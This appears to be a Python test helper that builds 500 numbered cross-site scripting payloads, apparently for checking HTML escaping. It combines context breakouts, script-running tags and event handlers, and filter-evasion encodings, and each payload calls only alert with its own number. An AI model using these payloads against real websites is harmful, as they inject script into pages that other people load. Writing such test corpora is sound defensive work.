"""Texts that would run as a script where somebody forgot to escape: ways out of a context × what runs × ways to hide it.

Our own writing, generated, so that each has a number of its own: `alert(<number>)` says which one ran.
"""

from __future__ import annotations

from collections.abc import Callable
from itertools import product

WAYS_OUT = [
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "</style>",
    "]]>",
    "</a></p>",
    "\"'`>",
    '\\">',
]

RUNS = [
    "<script>alert(N)</script>",
    "<script src=data:text/javascript,alert(N)></script>",
    "<img src=x onerror=alert(N)>",
    "<svg onload=alert(N)>",
    "<svg><script>alert(N)</script></svg>",
    "<svg><animate onbegin=alert(N) attributeName=x dur=1s>",
    "<details open ontoggle=alert(N)>x</details>",
    "<video><source onerror=alert(N)></video>",
    "<audio src=x onerror=alert(N)>",
    "<iframe srcdoc='<script>parent.alert(N)</script>'></iframe>",
    "<iframe src='javascript:parent.alert(N)'></iframe>",
    "<object data='javascript:alert(N)'></object>",
    "<embed src='javascript:alert(N)'>",
    "<input autofocus onfocus=alert(N)>",
    "<select autofocus onfocus=alert(N)></select>",
    "<body onload=alert(N)>",
    "<marquee onstart=alert(N)>x</marquee>",
    "<style>@keyframes k{}</style><p style='animation:k 1s' onanimationstart=alert(N)>x</p>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(N)'>",
    "<base href='javascript:alert(N)//'>",
    "<math><mtext><img src=x onerror=alert(N)></mtext></math>",
    "<form><button autofocus onfocus=alert(N) formaction='javascript:alert(N)'>x</button></form>",
    "<template><img src=x onerror=alert(N)></template><img src=x onerror=alert(N)>",
    '" autofocus onfocus=alert(N) x="',
    "' autofocus onfocus='alert(N)",
    '" style="background:url(javascript:alert(N))',
    "javascript:alert(N)",
    "data:text/html,<script>alert(N)</script>",
    "{{constructor.constructor('alert(N)')()}}",
    "${alert(N)}",
    "`-alert(N)-`",
    '";alert(N);//',
]


def _entities(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


HIDDEN: list[Callable[[str], str]] = [
    lambda text: text,
    lambda text: text.replace("<script", "<ScRiPt").replace("onerror", "oNeRrOr").replace("onload", "OnLoAd"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\n").replace("<", "<", 1),
    lambda text: text.replace("=", " = "),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "<\u200b", 1),
    lambda text: text.replace(">", ""),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("<", "<\t"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("alert", "al\\u0065rt"),
    lambda text: text.replace("javascript:", "jAvAsCrIpT&colon;").replace("onfocus", "on\u0000focus"),
    lambda text: text[:1] + _entities(text[1:]) if text[:1] == "<" else _entities(text),
]

MOST = 500


def payloads(n: int = MOST) -> list[str]:
    """The first n of the five hundred, in an order that mixes everything with everything; always the same."""
    every = list(product(range(len(WAYS_OUT)), range(len(RUNS)), range(len(HIDDEN))))
    step = 2_741  # prime to the number of combinations, so that the walk meets each once
    assert len(every) % step
    chosen = [every[(at * step) % len(every)] for at in range(MOST)]
    made = [
        WAYS_OUT[out] + HIDDEN[hidden](RUNS[run]).replace("(N)", f"({number})")
        for number, (out, run, hidden) in enumerate(chosen, start=1)
    ]
    return made[:n]
